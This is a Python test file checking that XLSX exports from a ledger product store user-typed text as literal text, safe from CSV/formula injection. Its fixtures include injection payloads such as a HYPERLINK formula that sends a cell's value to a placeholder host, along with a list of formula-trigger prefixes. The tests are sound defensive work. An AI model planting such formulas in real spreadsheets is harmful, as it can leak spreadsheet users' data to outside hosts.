"""Text in an exported sheet is text: shown as typed, never a formula or an error value.

Every XLSX the product writes goes through `sheets.tables`; the exports of
real data are checked end to end in tests/api/test_exports_no_formulas.py.
"""

from __future__ import annotations

import io
import re
import zipfile
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from ledger import validate
from ledger.errors import InvalidField
from sheets.tables import Col, Sheet, table_xlsx, workbook_xlsx

#: OWASP's formula triggers (CSV injection), and Excel's error values.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
TYPED = [f'{t}HYPERLINK("http://x/?x="&C2,"上缴明细")' for t in TRIGGERS] + [
    "=1+1",
    "#N/A",
    "#DIV/0!",
    "-5",
    "@SUM(A1:A9)",
]
COLS = (Col("姓名"), Col("摘要"), Col("金额", money=True))


def formulas(data: bytes) -> list[str]:
    """Every formula or error cell in the workbook, read both ways."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                xml = book.read(name).decode()
                found += re.findall(r"<f\b[^>]*>.*?</f>|<c [^>]*t=\"e\"", xml)
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        found += [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type in "fe"]
    return found


def texts(data: bytes) -> list[str]:
    sheets = load_workbook(io.BytesIO(data)).worksheets
    return [c.value for s in sheets for row in s.iter_rows() for c in row if c.data_type == "s"]


def test_typed_text_starting_with_a_trigger_stays_text():
    rows = [(text, text, Decimal("1.00")) for text in TYPED]
    data = workbook_xlsx(Sheet("甲", COLS, rows), Sheet("乙", COLS, rows[::-1], totals=False))
    assert formulas(data) == []
    # As typed, except that XML reads a lone CR back as a line feed; each row holds it twice.
    read = [t.replace("\r", "\n") for t in TYPED]
    twice = [t for t in read for _ in (1, 2)]
    assert [v for v in texts(data) if v in read] == twice + twice[::-1]


#: What a form accepts: printable text (control characters are refused on input).
typed = st.text(
    alphabet=st.characters(blacklist_categories=("Cc", "Cs", "Cn")) | st.sampled_from(TRIGGERS[:4]),
    min_size=1,
    max_size=30,
)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(st.sampled_from((*TRIGGERS[:4], "#", "")), typed), min_size=1))
def test_any_typed_text_reads_back_exactly(cells):
    values = [prefix + text for prefix, text in cells]
    data = table_xlsx("表", COLS[:1], [(v,) for v in values], totals=False)
    assert formulas(data) == []
    assert texts(data)[1:] == values


@settings(max_examples=200, deadline=None)
@given(st.text(min_size=1, max_size=20))
def test_whatever_the_input_rules_accept_an_export_reads_back_exactly(typed_text):
    try:
        value = validate.text(typed_text, "name")
    except InvalidField:
        return
    data = table_xlsx("表", COLS[:1], [(value,)], totals=False)
    assert texts(data)[1:] == [value.replace("\r", "\n")]


@pytest.mark.parametrize("bad", ["\uffff", "a\ufffeb", "\ud800", "a\x85b"])
def test_text_an_xlsx_cannot_hold_is_refused_on_input(bad):
    with pytest.raises(InvalidField, match="name"):
        validate.text(bad, "name")
